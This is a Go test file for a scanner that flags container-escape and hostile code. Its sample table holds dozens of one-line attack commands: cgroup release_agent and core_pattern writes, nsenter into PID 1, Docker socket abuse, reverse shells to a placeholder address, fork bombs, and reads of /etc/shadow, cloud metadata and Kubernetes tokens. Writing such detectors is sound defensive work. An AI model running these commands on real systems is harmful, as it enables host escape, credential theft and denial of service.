package detect

import (
	"bytes"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"
	"testing/synctest"
	"time"
)

// hits contains a sample for every rule, with the expected severity.
var hits = []struct {
	rule     string
	severity Severity
	language string
	code     string
}{
	{"cgroup-release-agent", Critical, "bash",
		"mkdir /tmp/c && mount -t cgroup -o rdma cgroup /tmp/c\necho \"$host/cmd\" > /tmp/c/release_agent"},
	{"cgroup-release-agent", Critical, "sh", "echo /x | tee /sys/fs/cgroup/rdma/release_agent"},
	{"cgroup-release-agent", Critical, "python", "open('/tmp/c/release_agent', 'w').write(cmd)"},
	{"cgroup-release-agent", Critical, "python", "os.system('echo /cmd > /tmp/c/release_agent')"},
	{"cgroup-release-agent", Critical, "node", "require('fs').writeFileSync('/tmp/c/release_agent', cmd)"},
	{"cgroup-release-agent", Critical, "go", `os.WriteFile("/sys/fs/cgroup/rdma/release_agent", cmd, 0)`},
	{"cgroup-release-agent", Critical, "ruby", "File.write('/tmp/c/release_agent', cmd)"},
	{"core-pattern-write", Critical, "bash", "echo '|/tmp/x' > /proc/sys/kernel/core_pattern"},
	{"core-pattern-write", Critical, "python",
		"with open(\"/proc/sys/kernel/core_pattern\", mode='w') as f: f.write('|/x')"},
	{"core-pattern-write", Critical, "sh", "sysctl -w kernel.core_pattern=\"|/tmp/x\""},
	{"uevent-helper-write", Critical, "bash", "echo /cmd >/sys/kernel/uevent_helper"},
	{"modprobe-path-write", Critical, "bash", "echo /tmp/x > /proc/sys/kernel/modprobe"},
	{"sysrq-trigger", Critical, "bash", "echo b > /proc/sysrq-trigger"},
	{"runtime-binary-overwrite", Critical, "bash", "#!/proc/self/exe\n"},
	{"runtime-binary-overwrite", Critical, "python", "fd = open('/proc/self/exe', 'wb')"},
	{"runtime-binary-overwrite", Critical, "python", "fd = os.open(\"/proc/self/exe\", os.O_WRONLY | os.O_TRUNC)"},
	{"leaked-descriptor-escape", Critical, "bash", "cat /proc/self/fd/7/../../../etc/hostname"},
	{"leaked-descriptor-escape", Critical, "bash", "for i in $(seq 20); do ls /proc/self/fd/$i/../../..; done"},
	{"leaked-descriptor-escape", Critical, "python", "os.chdir('/proc/self/fd/8/../../..'); os.system('sh')"},
	{"nsenter-init", Critical, "bash", "nsenter -t 1 -m -u -n -i sh"},
	{"nsenter-init", Critical, "bash", "nsenter --target 1 --mount -- bash"},
	{"nsenter-init", Critical, "sh", "true && nsenter -t1 -a"},
	{"nsenter-init", Critical, "python", "subprocess.run(['nsenter', '-t', '1', '-m', '--', 'sh'])"},
	{"nsenter-init", Critical, "python", "os.system('nsenter --target=1 --mount sh')"},
	{"chroot-init-root", Critical, "bash", "chroot /proc/1/root /bin/sh"},
	{"chroot-init-root", Critical, "python", "os.chroot('/proc/1/root'); os.execv('/bin/sh', ['sh'])"},
	{"engine-socket-create", Critical, "bash",
		"curl --unix-socket /var/run/docker.sock -d '{\"Image\":\"x\"}' http://x/containers/create"},
	{"engine-socket-create", Critical, "bash", "docker -H unix:///var/run/docker.sock run -it --privileged alpine"},
	{"engine-socket-create", Critical, "python",
		"s.connect('/var/run/docker.sock'); s.send(b'POST /containers/create HTTP/1.1'); exec(s.recv(9))"},
	{"host-disk-write", Critical, "bash", "debugfs -w /dev/sda1"},

	{"engine-socket", High, "bash", "ls -l /run/containerd/containerd.sock"},
	{"release-agent", High, "bash", "cat /sys/fs/cgroup/x/release_agent"},
	{"init-root", High, "python", "os.listdir('/proc/1/root/etc')"},
	{"nsenter", High, "bash", "nsenter --help"},
	{"kernel-helper", High, "bash", "cat /proc/sys/kernel/core_pattern"},
	{"kernel-memory", High, "python", "open('/dev/mem','rb')"},
	{"kernel-module", High, "bash", "insmod ./rootkit.ko"},
	{"host-disk", High, "bash", "mknod /tmp/d b 8 0"},
	{"host-disk", High, "bash", "dd if=/dev/sda of=/tmp/x"},
	{"cgroup-mount", High, "bash", "mount -t cgroup -o memory cgroup /mnt"},
	{"file-handle", High, "python", "libc.open_by_handle_at(fd, h, 0)"},
	{"loader-preload-file", High, "bash", "echo /tmp/x.so >> /etc/ld.so.preload"},
	{"metadata-credentials", High, "bash", "curl http://169.254.169.254/latest/meta-data/iam/"},
	{"service-account-token", High, "bash", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"},
	{"privileged-container", High, "bash", "docker run --rm --privileged alpine"},
	{"reverse-shell", High, "bash", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"},
	{"reverse-shell", High, "sh", "nc -e /bin/sh 192.0.2.1 4444"},
	{"reverse-shell", High, "python", "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);p=subprocess.call(['/bin/sh','-i'])"},
	{"fork-bomb", High, "bash", ":(){ :|:& };:"},
	{"fork-bomb", High, "bash", "bomb() { bomb | bomb & }; bomb"},
	{"fork-bomb", High, "python", "while True:\n    os.fork()"},
	{"miner", High, "bash", "./miner -o stratum+tcp://pool.example:3333"},
	{"inject-terminal", High, "python", "fcntl.ioctl(0, termios.TIOCSTI, c)"},

	{"password-file", Medium, "python", "print(open('/etc/shadow').read())"},
	{"metadata-address", Medium, "go", `const metadata = "169.254.169.254"`},
	{"user-namespace", Medium, "bash", "unshare -r sh"},
	{"user-namespace", Medium, "python", "os.unshare(os.CLONE_NEWUSER)"},
	{"join-namespace", Medium, "python", "os.setns(os.open('/proc/1/ns/mnt', 0))"},
	{"mount-call", Medium, "python", "libc.mount(b'none', b'/mnt', b'tmpfs', 0, 0)"},
	{"mount-call", Medium, "go", `syscall.Mount("none", "/mnt", "tmpfs", 0, "")`},
	{"mount-call", Medium, "bash", "mount -t proc proc /mnt"},
	{"pivot-root", Medium, "bash", "pivot_root . old"},
	{"chroot", Medium, "python", "os.chroot('x')"},
	{"trace-process", Medium, "python", "libc.ptrace(16, 1, 0, 0)"},
	{"process-memory", Medium, "bash", "cat /proc/1/environ"},
	{"kernel-log", Medium, "bash", "cat /dev/kmsg"},
	{"kernel-keyring", Medium, "bash", "keyctl show @s"},
	{"kernel-surface", Medium, "python", "SYS_bpf = 321"},
	{"raw-socket", Medium, "python", "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"},
	{"set-user-id", Medium, "bash", "chmod u+s /tmp/sh"},
	{"miner-name", Medium, "bash", "echo xmrig"},
	{"known-exploit", Medium, "python", "# port of dirty_pipe"},

	{"container-probe", Low, "bash", "test -f /.dockerenv"},
	{"loader-preload", Low, "bash", "LD_PRELOAD=./x.so ls"},
	{"own-executable", Low, "bash", "readlink /proc/self/exe"},
	{"capabilities", Low, "bash", "capsh --print"},
	{"user-credentials", Low, "python", "open(home + '/.ssh/id_ed25519')"},
	{"host-persistence", Low, "bash", "crontab -l"},
}

func TestHits(t *testing.T) {
	covered := map[string]bool{}
	for _, c := range hits {
		events := Scan(c.language, []byte("x = 1\n"+c.code))
		if strings.HasPrefix(c.code, "#!") {
			events = Scan(c.language, []byte(c.code))
		}
		i := slices.IndexFunc(events, func(e Event) bool { return e.Rule == c.rule })
		if i < 0 {
			t.Errorf("%s does not match %q: %v", c.rule, c.code, events)
			continue
		}
		covered[c.rule] = true
		if events[i].Severity != c.severity {
			t.Errorf("%s in %q is %s, want %s", c.rule, c.code, events[i].Severity, c.severity)
		}
	}
	for _, r := range Rules() {
		if !covered[r.ID] {
			t.Errorf("rule %s has no sample", r.ID)
		}
	}
}

func TestRulesAreWellFormed(t *testing.T) {
	seen := map[string]bool{}
	for _, r := range Rules() {
		if seen[r.ID] || !regexp.MustCompile(`^[a-z]+(-[a-z]+)*$`).MatchString(r.ID) {
			t.Errorf("rule id %q is malformed or taken", r.ID)
		}
		seen[r.ID] = true
		if r.Severity.rank() < 0 || r.Detail == "" || len(r.Literals) == 0 {
			t.Errorf("%s is incomplete", r.ID)
		}
		for _, l := range r.Literals {
			if l == "" || l != strings.ToLower(l) {
				t.Errorf("%s: the literal %q is not lower case", r.ID, l)
			}
		}
		if re, err := regexp.Compile(r.Pattern); err != nil {
			t.Errorf("%s: %v", r.ID, err)
		} else if re.MatchString("") {
			t.Errorf("%s matches nothing at all", r.ID)
		}
	}
}

// TestInnocentIsNotCritical covers code that must run: ordinary code, programs that describe escapes, comments, tools
// that search for escapes.
func TestInnocentIsNotCritical(t *testing.T) {
	for _, c := range []struct{ name, language, code string }{
		{"hello", "python", "print('hello')"},
		{"empty", "python", ""},
		{"an article, printed", "python", "print('''Attackers run: nsenter -t 1 -m -u -i -n sh\nor echo x > " +
			"/sys/fs/cgroup/release_agent\nor echo b > /proc/sysrq-trigger''')"},
		{"an article, in JavaScript", "node",
			"console.log(\"they write '|/x' > /proc/sys/kernel/core_pattern, then crash\")"},
		{"an article, in Go", "go",
			"package main\nimport \"fmt\"\nfunc main() { fmt.Println(\"chroot /proc/1/root is how\") }"},
		{"a comment in shell", "bash", "# never do: echo b > /proc/sysrq-trigger\n  # nor: nsenter -t 1 -m sh\nls"},
		{"a comment in Python", "python", "import os\n# nsenter -t 1 -m sh would leave\nos.system('ls')"},
		{"a comment in Go", "go", "// debugfs -w /dev/sda1 would be bad\nexec.Command(\"ls\")"},
		{"a block comment", "node", "/**\n * chroot /proc/1/root\n */\nrequire('child_process').exec('ls')"},
		{"mentions of docker.sock", "bash", "docker -H unix:///var/run/docker.sock ps\nls -l /var/run/docker.sock"},
		{"a compose file", "bash", "cat > compose.yaml <<EOF\nvolumes:\n  - /var/run/docker.sock:/var/run/docker.sock\nEOF"},
		{"reads core_pattern", "bash", "cat /proc/sys/kernel/core_pattern; sysctl kernel.core_pattern"},
		{"reads core_pattern from Python", "python", "print(open('/proc/sys/kernel/core_pattern').read())"},
		{"reads release_agent", "python", "print(open('/sys/fs/cgroup/release_agent').read())"},
		{"its own executable", "go", `f, _ := os.Open("/proc/self/exe"); exec.Command("/proc/self/exe")`},
		{"its own descriptors", "bash", "ls /proc/self/fd; exec 3</proc/self/fd/0; cat /proc/self/fd/3"},
		{"nsenter of another process", "bash", "nsenter -t 1234 -n ip addr; nsenter -t 12 -m ls"},
		{"nsenter's help", "bash", "nsenter --help"},
		{"a detector's own rule", "python",
			"rules = [r'nsenter', r'release_agent', r'core_pattern', r'docker\\.sock']\nfor l in open('x'):\n  pass"},
		{"a word list", "python", "words = ['nsenter', 'chroot', 'mount', 'unshare']\nopen('out', 'w').write(str(words))"},
		{"a fork bomb, which limits stop", "bash", ":(){ :|:& };:"},
		{"a reverse shell, which has no network", "bash", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"},
		{"/etc/shadow", "python", "open('/etc/shadow').read()"},
		{"metadata", "bash", "curl http://169.254.169.254/latest/meta-data/"},
		{"mount statistics", "python", "amount = mount = 3\nopen('/proc/self/mountinfo').read()"},
		{"SQL", "python", "sql = 'SELECT amount FROM mounts WHERE release_agent = 1'\nopen('q.sql', 'w').write(sql)"},
		{"debugfs of an image", "bash", "debugfs -R 'ls /' disk.img"},
		{"a chroot of one's own", "bash", "chroot ./rootfs /bin/sh"},
		{"binary rubbish", "python", "\x00\xff\xfe\n\x80"},
	} {
		t.Run(c.name, func(t *testing.T) {
			for _, e := range Scan(c.language, []byte(c.code)) {
				if e.Severity == Critical {
					t.Errorf("refused: %+v", e)
				}
			}
		})
	}
}

func TestOrdinaryCodeIsSilent(t *testing.T) {
	for language, code := range map[string]string{
		"python": "import os, sys, json, subprocess\ndef main():\n    amount = sum(int(x) for x in sys.stdin)\n    " +
			"subprocess.run(['ls', '-l'])\n    os.chmod('x', 0o755)\n    with open('out.json', 'w') as f: " +
			"json.dump({'amount': amount}, f)\nmain()",
		"node": "const fs = require('fs'), { execSync } = require('child_process');\nfs.mkdirSync('x', { recursive: true " +
			"});\nconsole.log(execSync('ls').toString(), process.memoryUsage());",
		"bash": "set -euo pipefail\nf() { echo \"$1\" | sort; }\nfor i in 1 2 3; do f \"$i\" >> out.txt; done\nchmod 755 " +
			"out.txt; cat out.txt | wc -l &\nwait",
		"go": "package main\nimport (\"fmt\"; \"os\"; \"net\")\nfunc main() { l, _ := net.Listen(\"tcp\", " +
			"\"127.0.0.1:0\"); fmt.Fprintln(os.Stdout, l.Addr()) }",
	} {
		if events := Scan(language, []byte(code)); len(events) != 0 {
			t.Errorf("%s: %+v", language, events)
		}
	}
}

func TestLines(t *testing.T) {
	code := strings.Repeat("pass\n", 41) + "open('/etc/shadow')\nopen('/etc/shadow'); open('/etc/shadow')\n"
	events := Scan("python", []byte(code))
	if len(events) != 2 || events[0].Line != 42 || events[1].Line != 43 {
		t.Errorf("%+v", events)
	}
}

func TestEventsAreBoundedAndTheGravestStay(t *testing.T) {
	var code bytes.Buffer
	for _, c := range hits {
		for range 3 * maxPerRule {
			if c.severity != Critical {
				fmt.Fprintln(&code, c.code)
			}
		}
	}
	code.WriteString("\nnsenter -t 1 -m sh\n")
	events := Scan("bash", code.Bytes())
	if len(events) != maxEvents {
		t.Errorf("%d events, want %d", len(events), maxEvents)
	}
	if !IsCritical(events) {
		t.Error("the critical event was crowded out")
	}
	if !slices.IsSortedFunc(events, func(a, b Event) int { return a.Line - b.Line }) {
		t.Error("events are not in the order of lines")
	}
}

// hostile returns code of the maximum length that consists of literals.
func hostile() map[string][]byte {
	const size = 1 << 20
	all := map[string][]byte{}
	var mix bytes.Buffer
	for _, r := range Rules() {
		for _, l := range r.Literals {
			mix.WriteString(l + " ")
		}
	}
	for name, s := range map[string]string{"literals": mix.String(), "one line of spaces": " ", "nsenter": "nsenter -t ",
		"slashes": "/proc/self/fd/",
		"open":    "open('/release_agent", "newlines": "\n", "NUL": "\x00", "words": "a_"} {
		all[name] = bytes.Repeat([]byte(s), size/len(s))
	}
	return all
}

func TestHostileCodeIsScannedInTime(t *testing.T) {
	for name, code := range hostile() {
		start := time.Now()
		Scan("bash", code)
		// Twenty times the usual time: a quadratic pattern takes minutes.
		if d := time.Since(start); d > 10*time.Second {
			t.Errorf("%s: %v", name, d)
		}
	}
}

func TestConcurrentScans(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		for range 8 {
			go Scan("bash", []byte("nsenter -t 1 -m sh"))
		}
		synctest.Wait()
	})
}

func BenchmarkScan(b *testing.B) {
	ordinary := bytes.Repeat([]byte("def f(x):\n    return sum(i * x for i in range(10))  # amount\n"), 20)
	b.Run("ordinary 1 KiB", func(b *testing.B) {
		b.SetBytes(int64(len(ordinary)))
		for b.Loop() {
			Scan("python", ordinary)
		}
	})
	for name, code := range hostile() {
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(code)))
			for b.Loop() {
				Scan("bash", code)
			}
		})
	}
}

func FuzzScan(f *testing.F) {
	for _, c := range hits {
		f.Add(c.language, []byte(c.code))
	}
	f.Fuzz(func(t *testing.T, language string, code []byte) {
		events := Scan(language, code)
		if len(events) > maxEvents {
			t.Errorf("%d events", len(events))
		}
		lines := 1 + bytes.Count(code, []byte("\n"))
		for _, e := range events {
			if e.Line < 1 || e.Line > lines || e.Rule == "" || e.Severity.rank() < 0 {
				t.Errorf("%+v in %d lines", e, lines)
			}
		}
	})
}
